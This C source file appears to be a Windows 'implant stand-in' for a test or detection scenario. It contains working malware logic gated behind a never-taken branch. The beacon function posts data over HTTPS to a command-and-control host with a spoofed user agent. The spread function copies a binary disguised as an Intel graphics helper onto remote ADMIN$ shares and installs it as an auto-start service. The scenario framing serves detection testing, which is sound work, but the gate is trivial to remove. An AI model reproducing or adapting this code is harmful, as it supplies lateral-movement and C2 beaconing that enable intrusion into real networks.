/*
** implant.c -- the scenario's implant stand-in: HTTPS-style beaconing over
** WinINet to the C2 addresses of scenario.h, spreading over SMB admin
** shares and installing itself as a service on remote hosts.  It prints a
** line and exits; the calls sit behind a branch that never runs.
*/
#include <windows.h>
#include <wininet.h>
#include <winnetwk.h>
#include <lm.h>
#include <stdio.h>
#include <wchar.h>
#include "scenario.h"

static const char c2_ips[] = SC_C2_IPS;
static const wchar_t c2_host[] = SC_C2_HOST;
static const wchar_t msg_ko[] = L"서버에 연결하는 중입니다";

static void spread(const wchar_t *host) {
  wchar_t share[260], bin[260];
  NETRESOURCEW nr;
  SC_HANDLE scm;
  SHARE_INFO_1 *si = NULL;
  DWORD got = 0, total = 0;
  swprintf(share, 260, L"\\\\%ls\\ADMIN$", host);
  memset(&nr, 0, sizeof nr);
  nr.dwType = RESOURCETYPE_DISK;
  nr.lpRemoteName = share;
  WNetAddConnection2W(&nr, NULL, NULL, 0);
  NetShareEnum((LPWSTR)host, 1, (LPBYTE *)&si, MAX_PREFERRED_LENGTH, &got, &total, NULL);
  swprintf(bin, 260, L"\\\\%ls\\ADMIN$\\..\\ProgramData\\igfxtrayex.exe", host);
  CopyFileW(L"C:\\ProgramData\\igfxtrayex.exe", bin, FALSE);
  scm = OpenSCManagerW(host, NULL, SC_MANAGER_ALL_ACCESS);
  CreateServiceW(scm, SC_SERVICE, L"Intel Graphics Tray Helper", SERVICE_ALL_ACCESS,
                 SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START, SERVICE_ERROR_IGNORE,
                 L"C:\\ProgramData\\igfxtrayex.exe -s", NULL, NULL, NULL, NULL, NULL);
}

static void beacon(void) {
  HINTERNET inet, con, req;
  char buf[4096];
  DWORD got = 0;
  inet = InternetOpenW(L"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0)", INTERNET_OPEN_TYPE_DIRECT,
                       NULL, NULL, 0);
  con = InternetConnectW(inet, c2_host, 443, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
  req = HttpOpenRequestW(con, L"POST", L"/search.php", NULL, NULL, NULL, INTERNET_FLAG_SECURE, 0);
  HttpSendRequestW(req, NULL, 0, (void *)c2_ips, (DWORD)sizeof c2_ips);
  InternetReadFile(req, buf, sizeof buf, &got);
  InternetCloseHandle(inet);
}

int main(int argc, char **argv) {
  (void)argv;
  if (argc > 1000) {
    beacon();
    spread(SC_TARGET_HOST);
    wprintf(L"%ls\n", msg_ko);
  }
  puts("tells scenario: implant stand-in, prints and exits");
  return 0;
}
